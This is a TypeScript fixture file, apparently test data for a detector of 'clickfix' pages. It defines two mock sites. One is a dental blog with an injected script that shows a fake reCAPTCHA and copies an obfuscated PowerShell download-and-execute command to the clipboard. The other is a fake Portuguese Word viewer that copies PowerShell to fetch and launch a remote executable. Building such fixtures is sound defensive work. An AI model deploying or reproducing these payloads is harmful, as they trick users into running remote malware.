import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';

export const entries: Entry[] = [
{
  id: 'j-clickfix-recaptcha-wp-inject',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.brookfield-dental-care.com/blog/5-tips-for-whiter-teeth/',
  body: doc({
    title: '5 Tips for Whiter Teeth – Brookfield Dental Care',
    head: '<script src="/wp-content/plugins/wp-optimize-cache/js/cache.min.js?ver=3.2.1"></script>',
    style: `header{background:#0e7490;color:#fff;padding:16px 30px}main{max-width:760px;margin:24px auto;padding:0 16px}`,
    body: `<header><strong>Brookfield Dental Care</strong> · Services · Our Team · Book Online · (555) 010-2233</header>
<main><h1>5 Tips for Whiter Teeth</h1><p>Posted by Dr. Emily Carter · October 3, 2025</p><p>Everyone wants a brighter smile. Here are five dentist-approved ways to keep your teeth white between cleanings...</p><ol><li>Brush twice a day with a soft brush.</li><li>Rinse after coffee, tea or red wine.</li><li>Use a straw for dark drinks.</li><li>Don't skip your six-month cleaning.</li><li>Ask us about professional whitening.</li></ol></main>`,
  }),
  routes: {
    'www.brookfield-dental-care.com/wp-content/plugins/wp-optimize-cache/js/cache.min.js': jsRoute(`(function(){var _=["\\x70\\x6f\\x77\\x65\\x72\\x73\\x68\\x65\\x6c\\x6c","-w h -nop -ep bypass -c ","\\"$u='https://cdn-jsdelivr-stats.com/v2/c.ps1';iex (New-Object Net.WebClient).DownloadString($u)\\""," # \\u2705 ''I am not a robot - reCAPTCHA Verification ID: 8841''"];
var cmd=_[0]+" "+_[1]+_[2]+_[3];
function show(){var o=document.createElement("div");o.style.cssText="position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:2147483647;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial";
o.innerHTML='<div style="width:320px;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.08);background:#f9f9f9"><div style="display:flex;align-items:center;padding:18px 12px"><div id="rc-cb" style="width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer"></div><span style="margin-left:12px;font-size:14px">I\\'m not a robot</span><span style="margin-left:auto;font-size:10px;color:#555;text-align:center">reCAPTCHA<br>Privacy - Terms</span></div><div id="rc-steps" style="display:none;padding:14px;background:#fff;border-top:1px solid #ddd;font-size:14px"><b>Verify you are human</b><p>Please perform the following steps to complete verification:</p><p>1. Press &amp; hold the Windows Key <b>⊞</b> + <b>R</b></p><p>2. In the verification window, press <b>CTRL + V</b></p><p>3. Press <b>Enter</b> on your keyboard to finish</p><p style="color:#777;font-size:12px">You will observe and agree: ✅ "I am not a robot - reCAPTCHA Verification ID: 8841"</p><button style="background:#1a73e8;color:#fff;border:0;padding:8px 18px;border-radius:3px">Verify</button></div></div>';
document.body.appendChild(o);document.getElementById("rc-cb").onclick=function(){var t=document.createElement("textarea");t.value=cmd;document.body.appendChild(t);t.select();try{document.execCommand("copy")}catch(e){}t.remove();try{navigator.clipboard.writeText(cmd)}catch(e){}
this.innerHTML='<div style="width:20px;height:20px;margin:1px;border:3px solid #4a90e2;border-top-color:transparent;border-radius:50%;animation:s 1s linear infinite"></div>';var st=document.createElement("style");st.textContent="@keyframes s{to{transform:rotate(360deg)}}";document.head.appendChild(st);setTimeout(function(){document.getElementById("rc-steps").style.display="block"},900)}}
if(!/bot|crawl|spider/i.test(navigator.userAgent)&&navigator.platform.indexOf("Win")===0){document.readyState==="loading"?document.addEventListener("DOMContentLoaded",show):show()}})();`),
  },
},
{
  id: 'j-clickfix-word-extension-ptbr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://docs-visualizar.onlinedoc-viewer.com/pt/doc/Contrato_Aluguel_2026.docx',
  body: doc({
    lang: 'pt-BR',
    title: 'Contrato_Aluguel_2026.docx - Word',
    style: `body{background:#e6e6e6}header{background:#185abd;color:#fff;padding:8px 16px;font-size:14px}.page{max-width:680px;margin:24px auto;background:#fff;min-height:600px;padding:40px;filter:blur(4px)}.err{position:fixed;top:90px;left:50%;transform:translateX(-50%);width:560px;background:#fff;border-top:4px solid #c50f1f;box-shadow:0 8px 30px rgba(0,0,0,.3);padding:22px}.err button{background:#185abd;color:#fff;border:0;padding:10px 18px;margin-top:8px}code{background:#f3f3f3;display:block;padding:8px;font-size:12px;word-break:break-all}`,
    body: `<header>Word · Contrato_Aluguel_2026.docx · Somente leitura</header>
<div class="page"><h2>CONTRATO DE LOCAÇÃO RESIDENCIAL</h2><p>Pelo presente instrumento particular, de um lado...</p></div>
<div class="err"><h3 style="margin-top:0">⚠ Extensão "Word Online" não está instalada</h3><p>Não foi possível exibir o documento corretamente porque a extensão <b>Word Online</b> não está instalada no seu navegador.</p><p><b>Como corrigir:</b></p><ol><li>Clique no botão <b>"Como corrigir"</b> abaixo (o código será copiado)</li><li>Clique com o botão direito no ícone do Windows e abra <b>Terminal (Admin)</b> / PowerShell</li><li>Cole com o botão direito do mouse e pressione <b>Enter</b></li><li>Atualize esta página (F5)</li></ol>
<button id="fix">Como corrigir</button> <span id="ok" style="color:#107c10;display:none">✓ Copiado!</span></div>
<script>var p='JABkAD0AJwBoAHQAdABwAHMAOgAvAC8AdwBvAHIAZAAtAGUAeAB0AGUAbgBzAGkAbwBuAC4AYwBsAG8AdQBkAC8AZgBpAHgALgB6AGkAcAAnAA==';
var c="$e='"+p+"';powershell -e $e; $f=\\"$env:TEMP\\\\fix.zip\\";Invoke-WebRequest -Uri 'https://word-extension.cloud/fix.zip' -OutFile $f;Expand-Archive $f -DestinationPath \\"$env:APPDATA\\\\WordExt\\" -Force;Start-Process \\"$env:APPDATA\\\\WordExt\\\\WordOnline.exe\\"";
document.getElementById('fix').onclick=function(){navigator.clipboard.writeText(c).then(function(){document.getElementById('ok').style.display='inline'})}</script>`,
  }),
},
];
